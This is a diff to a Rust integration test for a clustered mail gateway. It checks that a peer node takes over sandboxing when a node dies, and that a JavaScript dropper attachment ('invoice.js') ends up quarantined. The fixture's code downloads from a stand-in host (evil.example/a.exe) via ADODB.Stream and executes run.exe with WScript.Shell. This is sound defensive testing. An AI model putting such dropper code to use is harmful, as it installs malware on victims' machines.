@@ -3,6 +3,7 @@
 use std::cell::Cell;
 
 use postern_tests::cluster::nodes::{Cluster, Options};
+use postern_tests::documents::archive;
 use postern_tests::gateway::wait_until;
 use postern_tests::smtp::{mail_with, send};
 use serde_json::Value;
@@ -14,8 +15,12 @@ var s = new ActiveXObject('ADODB.Stream'); s.open(); s.write(x.responseBody); s.
 new ActiveXObject('WScript.Shell').Run('C:\\\\x\\\\run.exe');";
 
 fn deliver(cluster: &Cluster, node: usize, subject: &str) {
+    deliver_with(cluster, node, subject, "invoice.js", DROPPER);
+}
+
+fn deliver_with(cluster: &Cluster, node: usize, subject: &str, name: &str, content: &[u8]) {
     let address = std::net::SocketAddr::from((cluster.address(node), 25));
-    let mail = mail_with(subject, "", &[("invoice.js", "application/javascript", DROPPER)]);
+    let mail = mail_with(subject, "", &[(name, "application/octet-stream", content)]);
     std::thread::scope(|s| {
         s.spawn(|| {
             cluster.client().enter().unwrap();
@@ -81,4 +86,40 @@ fn a_file_that_one_node_opened_is_recognised_at_once_by_another() {
     let timeline = attachment["report"]["timeline"].to_string();
     assert!(timeline.contains("http://evil.example/a.exe") && timeline.contains("run.exe"), "{timeline}");
     said(&format!("the second, which cannot open anything, knows it {} ms later, with its timeline", took.as_millis()));
+}
+
+#[test]
+fn a_mail_that_waits_for_the_sandbox_is_looked_at_by_a_peer_when_its_node_burns() {
+    let folder = tempfile::tempdir().unwrap();
+    let settings = "[cluster]\ntakeover_after = \"2s\"\n[sandbox]\ntimeout = \"2s\"\nwhen_unavailable = \"hold\"\n[filter.thresholds]\nreject = 1000.0\n".to_owned();
+    let Some(mut cluster) = cluster(folder.path(), 3, Options { settings, ..Options::default() }) else { return };
+    let notes = archive(&[("notes.txt", b"hello")], None);
+    for (subject, name, content) in [("honest", "notes.zip", notes.as_slice()), ("dropper", "invoice.js", DROPPER)] {
+        deliver_with(&cluster, 2, subject, name, content);
+        wait_until("it to be held", LIMIT, || happened(&cluster, 2, subject, "held")).unwrap();
+    }
+    let status = cluster.ask(2, &["cluster", "status"]).unwrap();
+    assert_eq!(status["copies"]["unshadowed"], 0, "{status}");
+    let sandboxes: Vec<_> = (0..2).map(|node| cluster.sandbox(node).unwrap()).collect();
+    assert!(cluster.backend.mails().is_empty());
+    cluster.destroy(2).unwrap();
+    said("node2 took two mails, nobody looked at their attachments, and it burnt down");
+    let _logs = Logs(&cluster);
+    cluster.backend.wait_for(1, LIMIT).unwrap();
+    let kept = || cluster.ask(0, &["quarantine", "list"]).unwrap()["mails"].as_array().cloned().unwrap_or_default();
+    wait_until("the dropper to be kept", LIMIT, || kept().iter().any(|m| m["subject"] == "dropper")).unwrap();
+    for subject in ["honest", "dropper"] {
+        wait_until("its journey", LIMIT, || happened(&cluster, 0, subject, "taken-over") && happened(&cluster, 0, subject, "hold-ended"))
+            .unwrap();
+    }
+    assert_eq!(cluster.backend.mails().len(), 1);
+    said("its peers looked at them: one is delivered, once, and the dropper is in the quarantine");
+    drop(sandboxes);
+}
+
+fn happened(cluster: &Cluster, node: usize, subject: &str, event: &str) -> bool {
+    let found = cluster.ask(node, &["journey", "search", "--subject", subject]).unwrap_or_default();
+    let Some(mail) = found["journeys"][0]["mail"].as_str() else { return false };
+    let journey = cluster.ask(node, &["journey", "show", mail]).unwrap_or_default();
+    journey["steps"].as_array().is_some_and(|steps| steps.iter().any(|s| s["event"] == event))
 }
